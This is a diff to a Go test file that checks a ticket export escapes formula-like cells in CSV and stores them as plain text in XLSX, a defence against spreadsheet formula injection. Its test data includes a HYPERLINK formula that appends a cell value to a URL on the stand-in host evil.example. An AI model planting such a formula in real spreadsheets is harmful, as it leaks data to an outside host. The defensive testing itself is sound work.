@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"net/http/httptest"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -44,5 +45,62 @@ func TestExport(t *testing.T) {
 	xr, err := f.GetRows("Sheet1")
 	if err != nil || len(xr) != 3 || !slices.Equal(xr[0], header) || !slices.Equal(xr[2], rows[1]) {
 		t.Fatalf("xlsx rows %q, %v", xr, err)
+	}
+}
+
+// TestExportFormulaCells: what a teacher typed never runs as a formula in
+// the spreadsheet that opens the export. In CSV a cell starting with = +
+// - @, a tab or a carriage return is prefixed with a quote; in XLSX it is
+// a text cell, unchanged.
+func TestExportFormulaCells(t *testing.T) {
+	header := []string{"Nummer", "Titel"}
+	typed := []string{`=HYPERLINK("http://evil.example/?"&A1;"Details")`, "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\r=1", "Beamer – flackert", "E-Mail = kaputt"}
+	var rows [][]string
+	for i, v := range typed {
+		rows = append(rows, []string{strconv.Itoa(i), v})
+	}
+	// (encoding/csv drops a lone carriage return in CRLF mode: the quote
+	// still comes first.)
+	want := []string{`'=HYPERLINK("http://evil.example/?"&A1;"Details")`, "'+1+2", "'-2+3", "'@SUM(A1:A2)", "'\tTab", "'=1", "Beamer – flackert", "E-Mail = kaputt"}
+
+	w := httptest.NewRecorder()
+	if err := export(w, "csv", "tickets", header, rows); err != nil {
+		t.Fatal(err)
+	}
+	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\ufeff")))
+	cr.Comma = ';'
+	got, err := cr.ReadAll()
+	if err != nil || len(got) != len(rows)+1 {
+		t.Fatalf("csv %q, %v", got, err)
+	}
+	for i, r := range got[1:] {
+		if r[1] != want[i] {
+			t.Errorf("csv cell %q written as %q, want %q", typed[i], r[1], want[i])
+		}
+	}
+	if rows[0][1] != typed[0] {
+		t.Errorf("export changed the caller's rows: %q", rows[0][1])
+	}
+
+	w = httptest.NewRecorder()
+	if err := export(w, "xlsx", "tickets", header, rows); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for i, v := range typed {
+		cell, _ := excelize.CoordinatesToCellName(2, i+2)
+		if formula, _ := f.GetCellFormula("Sheet1", cell); formula != "" {
+			t.Errorf("xlsx cell %s holds the formula %q", cell, formula)
+		}
+		if typ, _ := f.GetCellType("Sheet1", cell); typ != excelize.CellTypeInlineString {
+			t.Errorf("xlsx cell %s (%q) is of type %v, want text", cell, v, typ)
+		}
+		if got, _ := f.GetCellValue("Sheet1", cell); got != v {
+			t.Errorf("xlsx cell %s reads %q, want %q", cell, got, v)
+		}
 	}
 }
